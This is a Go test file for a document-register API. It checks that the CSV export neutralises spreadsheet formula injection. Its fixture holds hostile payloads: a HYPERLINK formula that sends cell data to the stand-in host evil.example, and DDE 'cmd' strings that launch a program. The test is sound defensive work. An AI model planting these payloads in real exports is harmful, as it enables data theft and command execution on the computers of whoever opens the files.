package api_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vanthu/vanthu/workflow"
)

// TestRegisterCSVNeutralisesFormulas puts spreadsheet formulas in every
// free-text field of an incoming document (as a sending agency could) and
// checks that the register CSV starts each of those cells with a quote.
func TestRegisterCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, 5<<20)
	dangerous := map[string]string{
		"subject":         `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
		"original_number": "-5+cmd|' /C calc'!A0",
		"notes":           "+1+1",
		"sender":          "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	m := incomingMeta()
	m["subject"], m["original_number"], m["notes"] = dangerous["subject"], dangerous["original_number"], dangerous["notes"]
	m["sender"] = map[string]string{"org_id": "000.00.00.H13", "name": dangerous["sender"]}
	d := f.create(t, "clerk", m)
	if rec := f.json(t, "clerk", "POST", "/api/v1/documents/"+d.ID+"/actions/register", nil); rec.Code != 200 {
		t.Fatalf("register: %d %s", rec.Code, rec.Body.String())
	}
	year := workflow.RegisterYear(time.Now())
	rec := f.do(t, "clerk", "GET", fmt.Sprintf("/api/v1/registers/incoming/%d?format=csv", year), nil, "")
	if rec.Code != 200 {
		t.Fatalf("csv register: %d %s", rec.Code, rec.Body.String())
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %v %q", err, rec.Body.String())
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for field, v := range dangerous {
		cell := rows[1][col[field]]
		if !strings.HasPrefix(cell, "'") || !strings.Contains(cell, v) {
			t.Errorf("column %s = %q: a formula cell must start with a single quote", field, cell)
		}
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
	}
}
